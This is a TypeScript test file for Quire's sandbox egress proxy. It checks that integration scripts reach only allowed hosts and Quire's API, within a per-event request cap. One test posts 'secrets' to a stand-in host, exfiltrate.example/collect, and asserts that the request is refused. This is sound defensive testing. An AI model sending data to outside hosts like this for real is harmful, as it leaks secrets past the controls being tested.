// The egress proxy integration scripts' requests go through: Quire's own API and the
// allowed hosts only, and no more requests per event than the limit.
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Egress } from '../../src/sandbox/egress.ts';

let target: Server;
let targetHost: string;
let own: Server;
let ownOrigin: string;
let egress: Egress;
let egressPort: number;

const listen = async (server: Server) => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
};

beforeAll(async () => {
  target = createServer((incoming, response) => {
    let body = '';
    incoming.on('data', (chunk) => (body += chunk));
    incoming.on('end', () => response.writeHead(201, { 'content-type': 'text/plain', 'x-seen': incoming.method! }).end(`target got ${body}`));
  });
  own = createServer((_incoming, response) => response.end('quire'));
  targetHost = await listen(target);
  ownOrigin = `http://${await listen(own)}`;
  egress = new Egress({ ownOrigin, allowedHosts: [targetHost], allowPrivateUrls: true }, pino({ level: 'silent' }));
  egressPort = await egress.start();
});

afterAll(async () => {
  await egress.close();
  await new Promise((resolve) => target.close(resolve));
  await new Promise((resolve) => own.close(resolve));
});

/** A request as the runtime sends it: the absolute URL in the request line, no Host header. */
function viaProxy(url: string, method = 'GET', body?: string): Promise<{ status: number; body: string; seen?: string }> {
  return new Promise((resolve, reject) => {
    const outgoing = httpRequest({ host: '127.0.0.1', port: egressPort, method, path: url, setHost: false }, (response) => {
      let text = '';
      response.on('data', (chunk) => (text += chunk));
      response.on('end', () => resolve({ status: response.statusCode!, body: text, seen: response.headers['x-seen'] as string | undefined }));
    });
    outgoing.on('error', reject);
    outgoing.end(body);
  });
}

describe('the egress of integration scripts', () => {
  it("forwards requests to allowed hosts and to Quire's own API, with their method, body and answer", async () => {
    egress.beginEvent(10);
    expect(await viaProxy(`http://${targetHost}/hook`, 'POST', 'ping')).toEqual({ status: 201, body: 'target got ping', seen: 'POST' });
    expect((await viaProxy(`${ownOrigin}/v1/user`)).body).toBe('quire');
  });

  it('refuses any other host, with a message that names the setting', async () => {
    egress.beginEvent(10);
    const refused = await viaProxy('https://exfiltrate.example/collect', 'POST', 'secrets');
    expect(refused.status).toBe(403);
    expect(JSON.parse(refused.body)).toEqual({ error: { code: 403, message: 'Quire refused the request: exfiltrate.example is not in QUIRE_INTEGRATION_HOSTS' } });
  });

  it('refuses requests past the limit of one event, and counts afresh for the next', async () => {
    egress.beginEvent(2);
    expect((await viaProxy(`http://${targetHost}/1`)).status).toBe(201);
    expect((await viaProxy(`http://${targetHost}/2`)).status).toBe(201);
    const third = await viaProxy(`http://${targetHost}/3`);
    expect(third.status).toBe(429);
    expect(JSON.parse(third.body).error.message).toMatch(/QUIRE_INTEGRATION_REQUESTS/);
    egress.beginEvent(2);
    expect((await viaProxy(`http://${targetHost}/4`)).status).toBe(201);
  });
});
